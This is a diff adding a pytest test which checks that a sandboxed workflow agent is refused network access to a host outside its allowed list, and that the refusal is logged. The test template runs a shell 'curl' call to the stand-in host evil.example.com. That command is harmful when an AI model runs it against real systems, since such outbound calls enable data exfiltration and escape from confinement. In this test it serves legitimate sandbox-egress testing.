@@ -22,6 +22,29 @@ def desk(on_disk: None, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.
         yield made
 
 
+def test_what_an_agent_of_a_workflow_is_refused_is_in_the_journal_of_the_court(
+    desk: Desk, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if find_bubblewrap().problem:
+        pytest.skip(str(find_bubblewrap().problem))
+    monkeypatch.setenv("KINGDOM_SANDBOX", "required")
+    (desk.home / "config").mkdir()
+    (desk.home / "config" / "system.yaml").write_text("{}\n")
+    (desk.home / "logs").mkdir()
+    desk.run("git", "add", str(desk.folder / "app"))
+    template = desk.folder / "spy.yaml"
+    engine = {"name": "command", "options": {"argv": ["sh", "-c", "curl -s -m 20 http://evil.example.com; true"]}}
+    template.write_text(json.dumps({"name": "spy", "engine": engine, "works": [{"name": "w", "tasks": ["Look"]}]}))
+    desk.run("workflow", "create", str(template), "--repo", "app")
+    desk.run("workflow", "start", "spy")
+    lines = map(json.loads, (desk.home / "logs" / "events.log").read_text().splitlines())
+    (refused,) = [line for line in lines if line["type"] == "soldier.refused"]
+    assert refused["actor"] == "workflow"
+    assert refused["data"]["reason"] == "evil.example.com:80 is not among the hosts of this run"
+    (work,) = desk.show("spy")["works"]
+    assert refused["data"]["task_id"] == work["tasks"][0]["id"]
+
+
 def test_a_confined_agent_cannot_write_beside_its_repositories(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
     if find_bubblewrap().problem:
         pytest.skip(str(find_bubblewrap().problem))
